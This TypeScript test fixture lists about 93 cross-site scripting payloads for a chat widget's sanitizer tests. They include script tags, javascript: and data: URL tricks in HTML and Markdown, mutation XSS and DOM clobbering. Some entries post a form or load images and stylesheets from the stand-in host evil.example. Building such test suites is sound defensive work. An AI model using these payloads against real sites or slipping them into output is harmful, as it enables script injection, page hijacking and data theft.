/**
 * XSS payloads a visitor could type or a prompt-injected model could write, for the widget's
 * browser tests (web-test-runner) and the journeys (vitest + Playwright) alike: plain strings,
 * no imports. Each one that could execute calls the trap `__xss(n)` (n is its own number), so
 * a test defines `window.__xss` and expects it never to be called. The rest try to restyle or
 * cover the widget, post a form, clobber the DOM or load something remote, which a test
 * checks in the DOM and on the network (every remote URL points at `evil.example`).
 *
 * Grouped: classic HTML; URL schemes in HTML; the same in Markdown; mutation XSS;
 * forms, styles and overlays; automatic remote loads; document-level tags; handlers on
 * allowed and odd elements; DOM clobbering; unicode and parser tricks.
 */
export const xssPayloads: readonly string[] = [
  // classic HTML
  '<script>__xss(1)</script>',
  '<img src=x onerror=__xss(2)>',
  '<svg onload=__xss(3)>',
  '<svg><script>__xss(4)</script></svg>',
  '<img/src/onerror=__xss(5)>',
  '<scr<script>ipt>__xss(6)</script>',
  '**<img src=x onerror=__xss(7)>** and <b onmouseover=__xss(7)>bold</b>',

  // URL schemes in HTML
  '<a href="javascript:__xss(8)">js link</a>',
  '<a href="JaVaScRiPt:__xss(9)">mixed case</a>',
  '<a href="&#106;avascript:__xss(10)">entity j</a>',
  '<a href="java\tscript:__xss(11)">tab in scheme</a>',
  '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;__xss(12)">hex entities</a>',
  '<a href=" \u0001\u0010javascript:__xss(13)">control chars</a>',
  '<a href="vbscript:__xss(14)">vbscript</a>',
  '<a href="data:text/html,<script>parent.__xss(15)</script>">data html</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX194c3MoMTYpPC9zY3JpcHQ+">data base64</a>',
  '<a href=javascript&#58;__xss(17)>entity colon</a>',
  '<a href="java&#x0A;script:__xss(18)">newline entity</a>',

  // the same in Markdown
  '[click](javascript:__xss(19))',
  '[click](JaVaScRiPt:__xss(20))',
  '[click](&#106;avascript:__xss(21))',
  '[click](java&#09;script:__xss(22))',
  '[click](<javascript:__xss(23)>)',
  '<javascript:__xss(24)>',
  '[ref link][evil]\n\n[evil]: javascript:__xss(25)',
  '[click](vbscript:__xss(26))',
  '[click](data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX194c3MoMTYpPC9zY3JpcHQ+)',
  '[click](javascript&colon;__xss(28))',
  '![pixel](https://evil.example/pixel.png?29)',
  '![x](javascript:__xss(30))',
  '[![img in link](https://evil.example/31.png)](javascript:__xss(31))',
  '[title breakout](https://ok.example/32 "\\"onmouseover=__xss(32) x=\\"")',
  '| a |\n|---|\n| <img src=x onerror=__xss(33)> |',
  '- [ ] <img src=x onerror=__xss(34)> task\n- [x] done',
  '> <a href="javascript:__xss(35)">quoted</a>',
  '```html\n<img src=x onerror=__xss(36)>\n```\n\n`<img src=x onerror=__xss(36)>`',

  // mutation XSS
  '<noscript><p title="</noscript><img src=x onerror=__xss(37)>">',
  '<svg><style><img src=x onerror=__xss(38)></style></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=__xss(39)>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=__xss(40)>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror=__xss(41)&gt;">',
  '<svg></p><style><a id="</style><img src=1 onerror=__xss(42)>">',
  '<!--><img src=x onerror=__xss(43)>-->',
  '<!-- --!><img src=x onerror=__xss(44)> -->',
  '<template><img src=x onerror=__xss(45)></template>',
  '<div><template shadowrootmode="open"><img src=x onerror=__xss(46)></template></div>',
  '<xmp><p title="</xmp><img src=x onerror=__xss(47)>">',

  // forms, styles and overlays
  '<form action="https://evil.example/collect"><input name=q value=secret><button>Send</button></form>',
  '<button formaction="javascript:__xss(49)">go</button>',
  '<style>*{display:none!important}</style>',
  '<style>@import "https://evil.example/51.css";</style>',
  '<div style="position:fixed;inset:0;z-index:2147483647;background:#fff">covered</div>',
  '<a href="https://ok.example/53" style="position:fixed;inset:0;display:block">overlay link</a>',
  '<p style="background:url(https://evil.example/54.png)">css url</p>',
  '<p style="background-image:url(javascript:__xss(55))">css js url</p>',
  '<p class="typing sr-only provenance" part="message">class spoof</p>',

  // automatic remote loads
  '<img srcset="https://evil.example/57.png 1x" onerror=__xss(57)>',
  '<video poster="https://evil.example/58.png"><source src=x onerror=__xss(58)></video>',
  '<svg><image href="https://evil.example/59.png" onerror=__xss(59) /></svg>',
  '<audio src=x onerror=__xss(60)></audio>',
  '<picture><source srcset="https://evil.example/61.png"><img src="https://evil.example/61b.png"></picture>',
  '<table background="https://evil.example/62.png"><tr><td>bg</td></tr></table>',
  '<input type=image src="https://evil.example/63.png" onerror=__xss(63)>',
  '<img src="https://evil.example/64.png" loading=eager>',

  // frames, plugins and document-level tags
  '<iframe src="javascript:__xss(65)"></iframe>',
  '<iframe srcdoc="<script>parent.__xss(66)</script>"></iframe>',
  '<object data="javascript:__xss(67)"></object>',
  '<embed src="javascript:__xss(68)">',
  '<base href="javascript:__xss(69)//"><a href="/relative">relative</a>',
  '<meta http-equiv="refresh" content="0;url=javascript:__xss(70)">',
  '<link rel=stylesheet href="https://evil.example/71.css" onload=__xss(71)>',
  '<body onload=__xss(72)>',

  // handlers on allowed and odd elements
  '<a href="https://ok.example/73" onclick=__xss(73)>ok link</a>',
  '<details open ontoggle=__xss(74)><summary>x</summary></details>',
  '<input autofocus onfocus=__xss(75)>',
  '<marquee onstart=__xss(76)>x</marquee>',
  '<p onmouseover=__xss(77) tabindex=0 onfocus=__xss(77) autofocus>focus</p>',
  '<svg><animate onbegin=__xss(78) attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:__xss(79)"><text y=20>svg link</text></a></svg>',
  '<math href="javascript:__xss(80)">math link</math>',
  '<x-widget onclick=__xss(81) contenteditable autofocus onfocus=__xss(81)>custom</x-widget>',
  '<a href="https://ok.example/82" target="_self" rel="opener">opener</a>',

  // DOM clobbering
  '<img name=getElementById src=x onerror=__xss(83)><form id=__xss></form>',
  '<a id=__proto__ name=__xss href="https://ok.example/84">clobber</a>',
  '<p id="heed" name="body">ids</p><a id=location href="https://ok.example/85">x</a>',

  // unicode and parser tricks
  '<a href="\u2028javascript:__xss(86)">line separator</a>',
  '<a href="java&#0;script:__xss(87)">nul entity</a>',
  '[full width](ｊａｖａｓｃｒｉｐｔ:__xss(88))',
  '<ｓｃｒｉｐｔ>__xss(89)</ｓｃｒｉｐｔ>',
  '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058__xss(90)">padded entities</a>',
  '<a href="//evil.example/91">protocol-relative</a> and [md](//evil.example/91)',
  '<img src=x:x onerror=__xss(92) alt="alt">',
  '<a href="mailto:a@example.com?body=<img src=x onerror=__xss(93)>">mail</a>',
];
